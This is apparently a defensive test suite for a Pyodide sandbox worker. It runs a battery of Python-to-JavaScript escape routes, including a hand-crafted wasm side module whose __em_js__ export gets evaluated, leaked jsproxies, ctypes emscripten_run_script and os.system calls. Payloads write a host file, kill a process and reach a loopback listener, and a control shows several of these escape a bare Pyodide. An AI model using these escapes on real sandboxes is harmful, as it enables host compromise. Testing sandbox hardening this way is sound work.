// Every route from Python to JavaScript that issue 9 lists (and the older ones), tried as an
// attacker would against a Pyodide worker process with no OS jail around it. Each attempt that
// reaches JS runs one payload: write a marker file on the host, kill a victim process, connect to a
// loopback listener. The checks are on the host: the marker must not exist, the victim must be
// alive, the listener must have seen nothing, and the worker must go on serving.
//
// Two configurations: as deployed (minus the OS jail), and with the Python guards and Node's own
// layers off, so that the wasm import gate is shown to hold alone.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { loadPyodide } from 'pyodide';
import { pyFunction } from '../helpers/python.js';
import { PyodideWorker, type WorkerStart } from './pyodide-helpers.js';

const TAG = `${process.pid}-${Date.now()}`;
const MARKER = path.join(os.tmpdir(), `c2c-pyodide-route-${TAG}`);
const SECRET = `c2c-pyodide-secret-${TAG}`;
const lit = (value: unknown) => JSON.stringify(value);

/** Shared by every route: how to build the payload, find proxies, and try every way out of each. */
function prelude(victim: number, port: number, marker: string): string {
  const js = [
    'const p = globalThis.process',
    `p.getBuiltinModule('fs').writeFileSync(${lit(marker)}, 'escaped')`,
    `try { p.kill(${victim}, 'SIGKILL') } catch {}`,
    `p.getBuiltinModule('net').connect(${port}, '127.0.0.1').on('error', () => {})`,
  ].join('; ');
  return `
import sys
JS = ${lit(js)}
MARKER = ${lit(marker)}
HOST_DIR = ${lit(path.dirname(marker))}
SHELL = ${lit(`touch ${marker}; kill -9 ${victim}`)}
_KEEP = []

def _leb(n):
    out = b''
    while True:
        b = n & 0x7f
        n >>= 7
        out += bytes([b | (0x80 if n else 0)])
        if not n:
            return out

def _section(kind, payload):
    return bytes([kind]) + _leb(len(payload)) + payload

def _name(text):
    return _leb(len(text)) + text.encode()

def em_js_module(js):
    """A 60-byte wasm side module whose one export is an __em_js__ global: Emscripten's loader
    evals the JS it points at, with the real require in scope."""
    body = b'(void)<::>0;' + js.encode() + b'\\0'
    _KEEP.append(body)
    dylink = _section(0, _name('dylink.0') + bytes([1]) + _leb(4) + bytes([0, 0, 0, 0]))
    glob = _section(6, _leb(1) + bytes([0x7f, 0x00, 0x41]) + _leb(id(body) + 16) + bytes([0x0b]))
    export = _section(7, _leb(1) + _name('__em_js__x') + bytes([0x03]) + _leb(0))
    return b'\\0asm\\x01\\0\\0\\0' + dylink + glob + export

def is_proxy(obj):
    meta = type(type(obj))
    return getattr(meta, '__module__', '') == 'pyodide.ffi' and meta.__name__ in ('_JsProxyMetaClass', '_ABCMeta')

def collect(roots, depth=3):
    """JS proxies reachable from roots through functions, closures, dicts, lists and modules."""
    found, seen, level = [], set(), list(roots)
    for _ in range(depth):
        nxt = []
        for obj in level:
            if id(obj) in seen:
                continue
            seen.add(id(obj))
            if is_proxy(obj):
                found.append(obj)
                continue
            try:
                if isinstance(obj, dict):
                    nxt += list(obj.values())
                elif isinstance(obj, (list, tuple, set, frozenset)):
                    nxt += list(obj)
                elif type(obj).__name__ == 'module':
                    nxt += list(vars(obj).values())
                elif callable(obj):
                    nxt += [c.cell_contents for c in (getattr(obj, '__closure__', None) or ())]
                    nxt += list((getattr(obj, '__globals__', None) or {}).values())
                    nxt += list(getattr(obj, '__defaults__', None) or ())
            except Exception:
                pass
        level = nxt
    return found

def _to_js(value):
    for name in ('pyodide.ffi', '_pyodide_core'):
        module = sys.modules.get(name)
        if module is not None and hasattr(module, 'to_js'):
            return module.to_js(value)
    return value

def _so(name):
    path = '/tmp/' + name
    with open(path, 'wb') as f:
        f.write(em_js_module(JS))
    return path

_STEPS = [
    lambda o: o.constructor.constructor(JS)(),
    lambda o: o.eval(JS),
    lambda o: o._module.loadWebAssemblyModule(_to_js(em_js_module(JS)), _to_js({'loadAsync': False}), 'x', _to_js({}), 0),
    lambda o: o.loadWebAssemblyModule(_to_js(em_js_module(JS)), _to_js({'loadAsync': False}), 'x', _to_js({}), 0),
    lambda o: o._module.loadDynamicLibrary(_so('evil1.so'), _to_js({'global': True, 'nodelete': True})),
    lambda o: (o.mountNodeFS('/c2c-host', HOST_DIR), open('/c2c-host/' + MARKER.rsplit('/', 1)[1], 'w').write('x')),
    lambda o: o._api.pyodide_code.run_js(JS),
]

def escalate(found):
    """Every step from every object found; returns how many objects there were."""
    for obj in found:
        for step in _STEPS:
            try:
                step(obj)
            except Exception:
                pass
    return len(found)
`;
}

interface Route {
  /** The body of f() that takes the route (after the prelude). */
  body: string;
  /** With the Python guards off the attempt does reach JS (or a stubbed import): the gate must
   * be what stops it, seen in the worker's `blocked` reports. */
  gate?: 'refuses' | 'stubs';
}

const ROUTES: Record<string, Route> = {
  'the leftover finder in sys.meta_path (jsfinder.jsproxies: js, pyodide_js)': { gate: 'refuses', body: `
    found = []
    for finder in list(sys.meta_path):
        found += list((getattr(finder, 'jsproxies', None) or {}).values())
        for fn in list(vars(finder if isinstance(finder, type) else type(finder)).values()):
            jsfinder = (getattr(fn, '__globals__', None) or {}).get('jsfinder')
            found += list((getattr(jsfinder, 'jsproxies', None) or {}).values())
    return escalate(found)` },
  'pyodide.webloop and other pyodide classes through object.__subclasses__()': { gate: 'refuses', body: `
    classes, todo = set(), [object]
    while todo:
        for sub in type.__subclasses__(todo.pop()):
            if sub not in classes:
                classes.add(sub)
                todo.append(sub)
    roots = [cls for cls in classes if str(getattr(cls, '__module__', '')).startswith(('pyodide', '_pyodide'))]
    roots += [v for cls in roots for v in vars(cls).values()]
    return escalate(collect(roots))` },
  "the harness's closures and globals through frames": { body: `
    roots, frame = [], sys._getframe()
    while frame is not None:
        roots += [dict(frame.f_locals), frame.f_globals]
        frame = frame.f_back
    return escalate(collect(roots))` },
  'module attributes of everything in sys.modules': { gate: 'refuses', body: `
    return escalate(collect(list(sys.modules.values()), depth=2))` },
  'gc.get_objects()': { gate: 'refuses', body: `
    import gc
    gc.unfreeze()  # the worker froze its start-up objects, which hides them from get_objects
    objects = gc.get_objects()  # proxies are not tracked themselves: look inside what holds them
    return escalate([o for o in objects if is_proxy(o)] + collect(objects, depth=2))` },
  'import js, pyodide_js, pyodide.code (also after sys.modules.pop)': { gate: 'refuses', body: `
    import importlib
    found = []
    for name in ('js', 'pyodide_js', 'pyodide', '_pyodide_core'):
        for attempt in range(2):
            try:
                if attempt:
                    sys.modules.pop(name, None)
                found.append(importlib.import_module(name))
            except Exception:
                pass
    try:
        from pyodide.code import run_js
        run_js(JS)
    except Exception:
        pass
    return escalate(found)` },
  '_imp.create_builtin(_pyodide_core) and its to_js': { gate: 'refuses', body: `
    import _imp
    from importlib.machinery import BuiltinImporter, ModuleSpec
    core = _imp.create_builtin(ModuleSpec('_pyodide_core', BuiltinImporter, origin='built-in'))
    return escalate([core, core.to_js({}), core.to_js([])])` },
  "the create_builtin frame trick (a ModuleSpec whose name getter reads the caller's locals)": { body: `
    import _imp
    from importlib.machinery import BuiltinImporter, ModuleSpec
    stolen = []
    class Spec(ModuleSpec):
        @property
        def name(self):
            frame = sys._getframe(1)
            while frame is not None:
                stolen.extend(frame.f_locals.values())
                for cell in (getattr(frame.f_code, 'co_freevars', None) or ()):
                    pass
                frame = frame.f_back
            return '_pyodide_core'
        @name.setter
        def name(self, value):
            pass
    try:
        _imp.create_builtin(Spec('x', BuiltinImporter, origin='built-in'))
    except Exception:
        pass
    found = []
    for fn in stolen + collect(stolen):
        if callable(fn) and getattr(fn, '__name__', '') in ('create_builtin', 'original') and fn is not _imp.create_builtin:
            try:
                core = fn(ModuleSpec('_pyodide_core', BuiltinImporter, origin='built-in'))
                found += [core, core.to_js({})]
            except Exception:
                pass
    return escalate(found + collect(stolen))` },
  'the dynamic loader: an extension module whose __em_js__ the loader evals': { gate: 'refuses', body: `
    import importlib.machinery, importlib.util
    path = _so('evil.cpython-314-wasm32-emscripten.so')
    loader = importlib.machinery.ExtensionFileLoader('evil', path)
    importlib.util.module_from_spec(importlib.util.spec_from_file_location('evil', path, loader=loader))` },
  'ctypes: emscripten_run_script and CDLL of a side module': { gate: 'refuses', body: `
    import ctypes
    try:
        ctypes.CDLL(None).emscripten_run_script(JS.encode())
    finally:
        ctypes.CDLL(_so('evil2.so'))` },
  'a shell and signals: os.system, posix.system, subprocess, os.kill': { gate: 'stubs', body: `
    import os
    for run in (lambda: os.system(SHELL), lambda: __import__('posix').system(SHELL),
                lambda: __import__('subprocess').run(['sh', '-c', SHELL]), lambda: os.kill(${'VICTIM'}, 9)):
        try:
            run()
        except Exception:
            pass` },
  'code objects from marshal.loads and code.replace': { body: `
    import marshal, types
    code = marshal.loads(marshal.dumps((lambda: ('a constant', 2.5)).__code__))
    broken = code.replace(co_consts=())  # LOAD_CONST past the end: reads whatever memory is there
    return repr(types.FunctionType(broken, {})())` },
};

// The checks can see an escape: the same attempts on a bare Pyodide (in this test process) do get out.
describe('Pyodide: the same attempts on a bare Pyodide escape (control)', () => {
  const controlMarker = path.join(os.tmpdir(), `c2c-pyodide-control-${TAG}`);
  let pyodide: Awaited<ReturnType<typeof loadPyodide>>;
  let victim: ChildProcess;
  before(async () => {
    victim = spawn('sleep', ['600'], { stdio: 'ignore' });
    pyodide = await loadPyodide({ jsglobals: Object.create(null), stdout: () => {}, stderr: () => {} });
  });
  after(() => {
    victim.kill('SIGKILL');
    fs.rmSync(controlMarker, { force: true });
  });
  for (const route of ['the leftover finder in sys.meta_path (jsfinder.jsproxies: js, pyodide_js)', 'the dynamic loader: an extension module whose __em_js__ the loader evals', '_imp.create_builtin(_pyodide_core) and its to_js']) {
    it(`escapes through ${route}`, () => {
      fs.rmSync(controlMarker, { force: true });
      const code = prelude(victim.pid!, 1, controlMarker) + '\n' + pyFunction(ROUTES[route].body) + '\ntry:\n    f()\nexcept Exception:\n    pass\n';
      pyodide.runPython(code, { globals: pyodide.toPy({}) });
      assert.equal(fs.existsSync(controlMarker), true, 'the control did not escape: the checks would not see an escape');
    });
  }
});

describe('Pyodide: routes from Python to JavaScript (checked on the host)', () => {
  let victim: ChildProcess;
  let listener: net.Server;
  let port = 0;
  let connections = 0;

  before(async () => {
    fs.rmSync(MARKER, { force: true });
    victim = spawn('sleep', ['600'], { stdio: 'ignore' });
    listener = net.createServer((socket) => {
      connections++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    port = (listener.address() as net.AddressInfo).port;
  });

  after(() => {
    victim.kill('SIGKILL');
    listener.close();
    fs.rmSync(MARKER, { force: true });
  });

  const configurations: Array<[string, WorkerStart]> = [
    ['as deployed, without the OS jail', {}],
    ['the wasm gate alone (no Python guards, eval allowed, no Node permission model)', { pythonGuards: false, nodeLayers: false }],
  ];

  for (const [configuration, start] of configurations) {
    describe(configuration, () => {
      let worker: PyodideWorker;
      before(async () => {
        worker = await PyodideWorker.start({ ...start, env: { C2C_SECRET: SECRET } });
      });
      after(() => worker.close());

      for (const [route, { body, gate }] of Object.entries(ROUTES)) {
        it(`closes ${route}`, async () => {
          const before = worker.messages.filter((m) => m.type === 'blocked').length;
          const code = prelude(victim.pid!, port, MARKER) + '\n' + pyFunction(body.replace("${'VICTIM'}", String(victim.pid)));
          const [outcome] = await worker.runFunction({ code, entry: 'f', calls: [{}] });
                    await new Promise((resolve) => setTimeout(resolve, 100)); // a connection attempt would have landed
          assert.equal(fs.existsSync(MARKER), false, `the marker appeared on the host (${JSON.stringify(outcome)})`);
          assert.equal(victim.exitCode, null, 'the victim process was killed');
          assert.equal(victim.signalCode, null, 'the victim process was killed');
          assert.equal(connections, 0, 'the loopback listener saw a connection');
          assert.deepEqual(worker.breaches, []);
          if (start.pythonGuards === false && gate) {
            const refusals = worker.messages.filter((m) => m.type === 'blocked').length - before;
            assert.ok(refusals > 0, `the gate refused nothing (${JSON.stringify(outcome)})`);
            if (gate === 'refuses') assert.match(outcome.verdict === 'crash' ? outcome.message : JSON.stringify(outcome), /the sandbox refused/);
          }
          // Still serving, with nothing of the attempt left.
          const [next] = await worker.runFunction({ code: 'def g(x):\n    return x * 2\n', entry: 'g', calls: [{ args: ['21'] }] });
          assert.deepEqual(next.verdict === 'return' && next.repr, '42');
          assert.ok(worker.alive);
        });
      }

      it("keeps the worker process's environment from Python", async () => {
        const body = `
          import os
          return [dict(os.environ), os.getenv('C2C_SECRET')]`;
        const [outcome] = await worker.runFunction({ code: pyFunction(body), entry: 'f', calls: [{}] });
        assert.equal(outcome.verdict, 'return');
        assert.ok(!JSON.stringify(outcome).includes(SECRET), 'the secret in the worker\'s environment was readable');
      });

      it('shows no host file to Python and keeps its writes off the host disk', async () => {
        const body = `
          with open(MARKER, 'w') as f:
              f.write('from the sandbox')
          seen = []
          for name in ('/etc/hostname', '/etc/passwd', ${lit(path.resolve('package.json'))}):
              try:
                  seen.append(open(name).read()[:50])
              except OSError as e:
                  seen.append(type(e).__name__)
          return seen`;
        const [outcome] = await worker.runFunction({ code: prelude(victim.pid!, port, MARKER) + pyFunction(body), entry: 'f', calls: [{}] });
        assert.equal(outcome.verdict, 'return', JSON.stringify(outcome));
        assert.equal(fs.existsSync(MARKER), false, 'a write inside the sandbox appeared on the host disk');
        assert.equal(outcome.verdict === 'return' && outcome.repr, "['FileNotFoundError', 'FileNotFoundError', 'FileNotFoundError']");
      });

      it('lets no socket reach a listener on the host loopback', async () => {
        const attempts = [
          `import socket\nsocket.create_connection(("127.0.0.1", ${port}), timeout=1)`,
          `import _socket\ns = _socket.socket()\ns.connect(("127.0.0.1", ${port}))`,
          `import urllib.request\nurllib.request.urlopen("http://127.0.0.1:${port}/", timeout=1)`,
          `import http.client\nhttp.client.HTTPConnection("127.0.0.1", ${port}, timeout=1).request("GET", "/")`,
        ];
        for (const body of attempts) {
          const [outcome] = await worker.runFunction({ code: pyFunction(body), entry: 'f', calls: [{}] });
          assert.notEqual(outcome.verdict, 'return', JSON.stringify(outcome));
        }
        await new Promise((resolve) => setTimeout(resolve, 200));
        assert.equal(connections, 0);
      });

      it('lets no write to any descriptor forge a line the host accepts', async () => {
        const forged = JSON.stringify({ type: 'outcome', id: 999, index: 0, outcome: { verdict: 'return', repr: "'FORGED'", ms: 0 } });
        const body = `
          import os
          line = ${lit(forged + '\n')}.encode()
          for fd in range(0, 64):
              try:
                  os.write(fd, line)
              except OSError:
                  pass
          out = os.open('/dev/c2c-out', os.O_WRONLY)
          os.write(out, b'{"batch": [{"index": 7, "outcome": {"verdict": "return", "repr": "1", "ms": 0}}]}\\n')
          return 'written'`;
        const [outcome] = await worker.runFunction({ code: pyFunction(body), entry: 'f', calls: [{}] });
        // The forged outcome for a call it was not given ends the job's run as a crash, in the worker.
        assert.equal(outcome.verdict, 'crash', JSON.stringify(outcome));
        assert.deepEqual(worker.breaches, []);
        assert.ok(!worker.messages.some((m) => 'id' in m && m.id === 999), 'a line for another job reached the host');
        const [next] = await worker.runFunction({ code: 'def g(x):\n    return x * 2\n', entry: 'g', calls: [{ args: ['21'] }] });
        assert.deepEqual(next.verdict === 'return' && next.repr, '42');
      });
    });
  }
});
